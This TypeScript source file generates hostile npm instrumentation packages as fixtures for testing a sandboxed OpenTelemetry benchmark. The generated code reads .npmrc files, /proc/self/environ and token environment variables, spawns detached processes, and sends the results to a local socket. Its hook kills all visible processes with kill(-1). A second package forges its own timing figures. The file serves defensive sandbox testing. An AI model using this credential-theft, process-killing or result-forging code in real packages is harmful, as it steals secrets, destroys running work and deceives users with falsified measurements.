// Generated hostile instrumentations for the sandbox tests. Each is a real instrumentation (it extends
// InstrumentationBase and wraps a method of its target, so the bench finds and measures its hook) that
// also does what an attacker's package would: read secrets, write outside, start processes, connect
// out, kill its parent, forge its figures. What it managed to do is written into the names of the
// methods it wraps, so the report itself shows each attempt's outcome (and would carry any secret out).
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Lab } from './attack-lab.js';

const INSTRUMENTATION = fileURLToPath(new URL('../../../node_modules/@opentelemetry/instrumentation/build/src/index.js', import.meta.url));

function write(dir: string, name: string, index: string): string {
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0', main: 'index.js' }));
  writeFileSync(path.join(dir, 'index.js'), index);
  return dir;
}

/** The instrumentation around `hook` (the body of the per-call wrapper) and `atLoad` (module top level). */
function instrumentation(className: string, atLoad: string, hook: string, extraWraps = 'outcomes'): string {
  return `'use strict';
const { InstrumentationBase, InstrumentationNodeModuleDefinition } = require(${JSON.stringify(INSTRUMENTATION)});
const fs = require('fs');
const os = require('os');
const path = require('path');
const outcomes = [];
let calls = 0;
const attempt = (name, fn) => {
  try { outcomes.push(name + '=' + String(fn()).replace(/[^\\w.=-]/g, '_').slice(0, 60)); }
  catch (e) { outcomes.push(name + '!' + (e && e.code ? e.code : 'error')); }
};
${atLoad}
class ${className} extends InstrumentationBase {
  constructor(config = {}) { super('${className}', '1.0.0', config); }
  init() {
    return new InstrumentationNodeModuleDefinition('hostile-target', ['*'], (exports) => {
      const instrumentation = this;
      this._wrap(exports.Client.prototype, 'query', (original) => function query(...args) {
        const span = instrumentation.tracer.startSpan('query');
        try { ${hook} return original.apply(this, args); } finally { span.end(); }
      });
      // what the attempts gave, as the name of a second wrapped method: it ends up in the report
      const name = 'attempts:' + ${extraWraps}.join(',');
      exports.Client.prototype[name] = function () {};
      this._wrap(exports.Client.prototype, name, (original) => function (...args) { return original.apply(this, args); });
      return exports;
    });
  }
}
module.exports = { ${className} };
`;
}

/**
 * Tries everything at load (in the listing and the measuring children) and, in its hook, kills what it
 * can: its parent, every process it can see. Only ever run it sandboxed in a pid namespace: as root
 * outside one, `kill(-1)` takes the machine's processes down.
 */
export function escapePackage(lab: Lab, into: string, marker: string): string {
  const atLoad = `
attempt('write', () => fs.writeFileSync(${JSON.stringify(path.join(lab.outside, 'written-by-package'))}, 'x'));
attempt('home-npmrc', () => fs.readFileSync(${JSON.stringify(path.join(lab.home, '.npmrc'))}, 'utf8'));
attempt('homedir-npmrc', () => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));
attempt('environ', () => fs.readFileSync('/proc/self/environ', 'utf8'));
attempt('env', () => Object.keys(process.env).filter((k) => /TOKEN/.test(k)).map((k) => k + ':' + process.env[k]).join('+') || 'none');
attempt('spawn', () => require('child_process').spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)', ${JSON.stringify(marker)}], { detached: true, stdio: 'ignore' }).unref() || 'started');
attempt('worker', () => new (require('worker_threads').Worker)('setTimeout(() => {}, 60000)', { eval: true }) && 'started');
const socket = require('net').connect(${lab.port}, '127.0.0.1', () => socket.end('stolen:' + outcomes.join(',')));
socket.on('error', () => undefined);
`;
  // not on the first calls: listing calls each wrapper once or twice, and the case must get listed
  const hook = `if (++calls === 50) { try { process._debugProcess(process.ppid); } catch {} try { process.kill(-1, 'SIGKILL'); } catch {} try { process.kill(process.ppid, 'SIGKILL'); } catch {} process.kill(process.pid, 'SIGKILL'); }`;
  return write(path.join(into, 'hostile-escape'), 'hostile-escape', instrumentation('EscapeInstrumentation', atLoad, hook));
}

/**
 * Costs ~250 µs of CPU per call, and rewrites its own answer so that the hooked call reads as fast as
 * the plain one (+0 ns per span): what passed a 20 µs budget before the cross-check.
 */
export function forgerPackage(into: string): string {
  const atLoad = `
const send = process.send && process.send.bind(process);
if (send) process.send = (m, ...rest) => {
  if (m && m.mode === 'measure' && m.result) m.result.instrumented = { ...m.result.instrumented, nsPerCall: m.result.baseline.nsPerCall };
  return send(m, ...rest);
};
`;
  const hook = `const until = process.cpuUsage().user + 250; while (process.cpuUsage().user < until) {}`;
  return write(path.join(into, 'hostile-forger'), 'hostile-forger', instrumentation('ForgerInstrumentation', atLoad, hook, '[]'));
}

/** The target both patch: a tiny client, installed beside them so the harness takes its shape. */
export function hostileTarget(into: string): string {
  mkdirSync(path.join(into, 'hostile-target'), { recursive: true });
  writeFileSync(path.join(into, 'hostile-target', 'package.json'), JSON.stringify({ name: 'hostile-target', version: '1.0.0', main: 'index.js' }));
  writeFileSync(path.join(into, 'hostile-target', 'index.js'), "'use strict';\nclass Client { query() { return 1; } }\nmodule.exports = { Client };\n");
  return path.join(into, 'hostile-target');
}
